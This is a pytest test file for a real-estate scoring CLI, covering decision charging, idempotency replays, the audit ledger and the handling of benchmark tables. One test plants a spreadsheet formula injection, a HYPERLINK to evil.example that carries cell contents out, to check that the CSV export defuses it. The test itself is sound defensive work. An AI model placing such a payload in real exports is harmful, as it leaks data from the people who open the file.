"""`decisions decide` and `decisions workspace`: one request from the shell, charged for real."""

from __future__ import annotations

import io
import json

import pytest

from pipeline.cli import main
from tests.benchmark_tables import MALFORMED, malformed_settings, said_clearly

VILLA = {
    "property": {"type": "villa", "price": 3_200_000, "area": 400, "bedrooms": 5, "age": 6},
    "location": {"city": "Riyadh", "district": "Al Malqa"},
    "reasoning": False,
}


@pytest.fixture
def db(tmp_path) -> str:
    path = str(tmp_path / "ledger.db")
    assert main(["workspace", "create", "acme", "--balance", "4", "--db", path]) == 0
    return path


def decide(db: str, body: dict, capsys, *extra: str) -> tuple[int, dict]:
    capsys.readouterr()
    code = main(["decide", "-", "--db", db, "--workspace", "acme", *extra])
    return code, json.loads(capsys.readouterr().out)


@pytest.fixture
def stdin(monkeypatch):
    def feed(body: dict) -> None:
        monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(body).encode())))

    return feed


def test_scoring_then_reasoning_then_402(db, capsys, stdin):
    stdin(VILLA)
    code, body = decide(db, VILLA, capsys)
    assert code == 0
    assert set(body) == {
        "verdict", "score", "breakdown", "price_per_sqm", "benchmark", "decisions_used",
        "decisions_remaining",
    }  # fmt: skip
    assert body["verdict"] in ("match", "partial", "no_match")
    assert isinstance(body["score"], int | float) and 0 <= body["score"] <= 100
    assert set(body["breakdown"]) == {"price", "location", "size", "details"}
    assert body["price_per_sqm"] == 8000.0
    # Al Malqa's 432 deeds of 2024 (median 7,940.23 SAR/m2 over all types) scaled to villas,
    # which trade there at 1.293 x the district's level: what the price score is placed on.
    assert body["benchmark"] == {
        "median_sqm": 10266.72, "p25_sqm": 8542.24, "p75_sqm": 10990.5, "year": 2024,
        "transaction_count": 432, "yoy_pct": 10.1,
    }  # fmt: skip
    assert body["price_per_sqm"] <= body["benchmark"]["p25_sqm"]  # "well priced" (the spec)
    assert body["breakdown"]["price"] == {"score": 100, "status": "pass"}
    assert (body["decisions_used"], body["decisions_remaining"]) == (1, 3)

    stdin({**VILLA, "reasoning": True})
    code, body = decide(db, VILLA, capsys)
    assert code == 0 and (body["decisions_used"], body["decisions_remaining"]) == (3, 0)
    reasoning = body["reasoning"]
    assert reasoning["reasoning_ar"].startswith("الحكم")
    assert isinstance(reasoning["key_factors"], list) and isinstance(reasoning["risk_flags"], list)

    stdin(VILLA)
    code, body = decide(db, VILLA, capsys)
    assert code == 3
    assert body["error"] == "insufficient_decisions"
    assert (body["required"], body["balance"]) == (1, 0)

    # At zero every request is 402, an invalid one too (spec, section 8), as the service says
    stdin({**VILLA, "reasoning": True, "property": {**VILLA["property"], "price": "abc"}})
    code, body = decide(db, VILLA, capsys)
    assert code == 3
    assert (body["error"], body["required"], body["balance"]) == ("insufficient_decisions", 3, 0)


def test_an_invalid_request_is_not_charged(db, capsys, stdin):
    stdin({**VILLA, "property": {**VILLA["property"], "area": -1}})
    code, body = decide(db, VILLA, capsys)
    assert code == 1
    assert body == {
        "error": "validation_error",
        "message": "property.area must be a positive number (> 0)",
        "field": "property.area",
    }
    capsys.readouterr()
    assert main(["workspace", "show", "acme", "--db", db]) == 0
    assert json.loads(capsys.readouterr().out)["balance"] == 4


def test_the_same_idempotency_key_replays_without_a_charge(db, capsys, stdin):
    stdin(VILLA)
    first = decide(db, VILLA, capsys, "--idempotency-key", "listing-42")[1]
    stdin(VILLA)
    again = decide(db, VILLA, capsys, "--idempotency-key", "listing-42")[1]
    assert again == first and again["decisions_remaining"] == 3
    capsys.readouterr()
    assert main(["workspace", "topup", "acme", "10", "--db", db]) == 0
    assert json.loads(capsys.readouterr().out)["balance"] == 13


def test_a_request_file_that_does_not_exist(db, tmp_path, capsys):
    assert main(["decide", str(tmp_path / "nope.json"), "--db", db]) == 2
    assert "cannot read the request" in capsys.readouterr().err


@pytest.mark.parametrize("key", ["", "x" * 256, "a\tb"])
def test_an_idempotency_key_the_service_would_refuse_is_refused(db, capsys, stdin, key):
    stdin(VILLA)
    assert main(["decide", "-", "--db", db, "--workspace", "acme", "--idempotency-key", key]) == 2
    assert "--idempotency-key must be 1 to 255 printable characters" in capsys.readouterr().err
    assert main(["workspace", "show", "acme", "--db", db]) == 0
    assert json.loads(capsys.readouterr().out)["balance"] == 4


def test_an_api_key_given_as_idempotency_key_is_refused_not_stored(db, capsys, stdin):
    # Found by QA 65: the service refuses such a header (400); `decide` charged the request and
    # wrote the key in clear into the ledger's entries, which `workspace entries` lists.
    from pipeline.ledger.accounts import generate_key

    key = generate_key()
    stdin(VILLA)
    assert main(["decide", "-", "--db", db, "--workspace", "acme", "--idempotency-key", key]) == 2
    err = capsys.readouterr().err
    assert "--idempotency-key holds an API key" in err and key not in err
    assert main(["workspace", "entries", "acme", "--db", db]) == 0
    entries = capsys.readouterr().out
    assert key not in entries and json.loads(entries)[-1]["kind"] == "opening"


def test_the_audit_trail_reconciles_with_the_balance(db, capsys, stdin):
    stdin(VILLA)
    decide(db, VILLA, capsys, "--idempotency-key", "listing-42")
    stdin(VILLA)
    decide(db, VILLA, capsys, "--idempotency-key", "listing-42")  # a replay: no entry
    assert main(["workspace", "topup", "acme", "10", "--db", db]) == 0
    capsys.readouterr()

    assert main(["workspace", "entries", "acme", "--db", db]) == 0
    entries = json.loads(capsys.readouterr().out)
    assert [(e["kind"], e["amount"], e["balance_after"]) for e in entries] == [
        ("opening", 4, 4), ("charge", -1, 3), ("topup", 10, 13),
    ]  # fmt: skip
    assert sum(e["amount"] for e in entries) == 13
    charge = entries[1]
    assert charge["idempotency_key"] == "listing-42" and len(charge["fingerprint"]) == 64
    assert charge["created_at"].endswith("+00:00")

    assert main(["workspace", "entries", "acme", "--csv", "--db", db]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert rows[0].startswith("id,created_at,kind,amount,balance_after")
    assert [r.split(",")[2:5] for r in rows[1:]] == [
        ["opening", "4", "4"],
        ["charge", "-1", "3"],
        ["topup", "10", "13"],
    ]  # fmt: skip  (a negative amount stays a number)


def test_an_idempotency_key_never_becomes_a_formula_in_the_audit_csv(db, capsys, stdin):
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    stdin(VILLA)
    decide(db, VILLA, capsys, "--idempotency-key", planted)
    assert main(["workspace", "entries", "acme", "--db", db, "--csv"]) == 0
    import csv
    import io as text_io

    rows = list(csv.DictReader(text_io.StringIO(capsys.readouterr().out)))
    assert rows[1]["idempotency_key"] == "'" + planted and rows[1]["amount"] == "-1"
    assert main(["workspace", "entries", "acme", "--db", db]) == 0
    assert json.loads(capsys.readouterr().out)[1]["idempotency_key"] == planted  # JSON: as is


def test_the_local_workspace_is_opened_in_a_named_ledger_by_its_first_charge_only(
    db, tmp_path, capsys, stdin
):
    """QA round 28: a dry run, a run of rejected rows or a refused request, with --db and no
    --workspace, made the local workspace there with 100,000 decisions nobody paid for."""
    listing = tmp_path / "one.csv"
    listing.write_text("type,price,area,city\napartment,950000,140,Riyadh\n")
    rejected = tmp_path / "bad.csv"
    rejected.write_text("type,price,area,city\napartment,-5,140,Riyadh\n")

    def local_workspace() -> dict | None:
        capsys.readouterr()
        if main(["workspace", "show", "local", "--db", db]) != 0:
            return None
        return json.loads(capsys.readouterr().out)

    assert main(["score", str(listing), "--dry-run", "--db", db]) == 0
    assert main(["score", str(rejected), "-o", str(tmp_path / "o.csv"), "--db", db]) == 0
    stdin({**VILLA, "property": {**VILLA["property"], "price": -1}})
    assert main(["decide", "-", "--db", db]) == 1
    assert local_workspace() is None
    # a run that could pay nothing advises a top-up of it: that makes it too (QA 31)
    other = str(tmp_path / "other.db")
    assert main(["workspace", "create", "team", "--balance", "1", "--db", other]) == 0
    assert main(["workspace", "topup", "local", "1000", "--db", other]) == 0
    capsys.readouterr()
    assert main(["workspace", "show", "local", "--db", other]) == 0
    assert json.loads(capsys.readouterr().out)["balance"] == 101_000

    capsys.readouterr()
    assert main(["score", str(listing), "-o", str(tmp_path / "o.csv"), "--db", db]) == 0
    # said (QA 50: a mistyped --db, or no --workspace, charged a balance made up on the spot)
    said = capsys.readouterr().err
    assert "holds no workspace 'local': the first charge opens it there, with 100,000" in said
    assert local_workspace() == {"workspace": "local", "balance": 99_999}
    capsys.readouterr()
    assert main(["score", str(listing), "-o", str(tmp_path / "o.csv"), "--db", db]) == 0
    assert "holds no workspace" not in capsys.readouterr().err  # once it does
    typo = str(tmp_path / "ledgr.db")
    stdin(VILLA)
    assert main(["decide", "-", "--db", typo]) == 0
    assert f"{typo} holds no workspace 'local'" in capsys.readouterr().err
    capsys.readouterr()
    assert main(["workspace", "entries", "local", "--db", db]) == 0
    entries = json.loads(capsys.readouterr().out)
    assert [(e["kind"], e["amount"]) for e in entries] == [("opening", 100_000), ("charge", -1)]


def test_a_type_the_citys_deeds_do_not_price_has_no_benchmark(db, capsys, stdin):
    """QA 38: Afif's deeds are land; scaled by the national apartment factor they made an
    apartment benchmark of 62 SAR/m2, so a fair apartment read 4,758% above the median (price
    score 0). Now: no benchmark for the type, a neutral price score, the city's deeds still
    scoring its location, and the explanation saying why."""
    afif = {
        "property": {"type": "apartment", "price": 450_000, "area": 150, "bedrooms": 3},
        "location": {"city": "Afif", "district": "غرناطة"},
        "reasoning": True,
    }
    stdin(afif)
    code, body = decide(db, afif, capsys)
    assert code == 0
    assert body["benchmark"] is None
    assert body["breakdown"]["price"]["score"] == 50  # compared with nothing: neutral
    assert body["breakdown"]["location"]["score"] != 30  # not "no benchmark" (its deeds count)
    reasoning = body["reasoning"]
    assert "no_type_benchmark" in reasoning["risk_flags"]
    assert "no_benchmark" not in reasoning["risk_flags"]
    assert "No benchmark exists for an apartment in" in reasoning["reasoning_en"]
    assert "above the median" not in reasoning["reasoning_en"]
    assert "لا يوجد مؤشر للشقق في" in reasoning["reasoning_ar"]


def test_a_location_scored_on_its_citys_deeds_says_so_without_a_type_benchmark(db, capsys, stdin):
    """QA 49: an unknown district in a city whose deeds do not price the type: the location
    bucket takes the city's deeds, cut to 0.9, and the flag saying so was missing."""
    office = {
        "property": {"type": "office", "price": 7_000, "area": 1_655},
        "location": {"city": "رنيه", "district": "حي غير موجود"},
        "reasoning": True,
    }
    stdin(office)
    code, body = decide(db, office, capsys)
    assert code == 0
    assert body["benchmark"] is None
    flags = body["reasoning"]["risk_flags"]
    assert "city_level_benchmark" in flags and "no_type_benchmark" in flags


def test_a_benchmark_table_that_is_not_there_is_named_not_a_traceback(
    db, tmp_path, monkeypatch, capsys, stdin
):
    """QA 66: settings.toml copied to another folder (DECISIONS_SETTINGS) takes its relative
    `table` from there; the missing file came out as a FileNotFoundError traceback, exit 1."""
    settings = tmp_path / "configs" / "settings.toml"
    settings.parent.mkdir()
    settings.write_text('[benchmarks]\ntable = "sample_data/benchmarks.csv"\n', encoding="utf-8")
    monkeypatch.setenv("DECISIONS_SETTINGS", str(settings))
    stdin(VILLA)
    capsys.readouterr()
    assert main(["decide", "-", "--db", db, "--workspace", "acme"]) == 2
    said = capsys.readouterr().err
    missing = tmp_path / "sample_data" / "benchmarks.csv"
    assert said.startswith(f"decisions: error: cannot read the benchmark table {missing} (No such")
    assert "Traceback" not in said
    for ledger in (["--db", str(tmp_path / "new.db")], []):  # a new one; the settings' own
        stdin(VILLA)
        assert main(["decide", "-", *ledger]) == 2
    assert not (tmp_path / "new.db").exists() and not (tmp_path / ".cache").exists()  # QA 71


@pytest.mark.parametrize("case", MALFORMED)
def test_a_benchmark_table_that_is_not_one_is_named_not_a_traceback(
    tmp_path, monkeypatch, capsys, stdin, case
):
    """QA 73: a polars SchemaError (or NoDataError, ComputeError) traceback, exit 1; a market
    averages table without its averages charged decisions scored without them (77 for 89)."""
    settings, table, said = malformed_settings(tmp_path, case)
    monkeypatch.setenv("DECISIONS_SETTINGS", str(settings))
    there = sorted(tmp_path.rglob("*"))
    for ledger in (["--db", str(tmp_path / "new.db")], []):  # a new one; the settings' own
        stdin(VILLA)
        assert main(["decide", "-", *ledger]) == 2
        assert said_clearly(capsys.readouterr().err, table, said)
    assert sorted(tmp_path.rglob("*")) == there
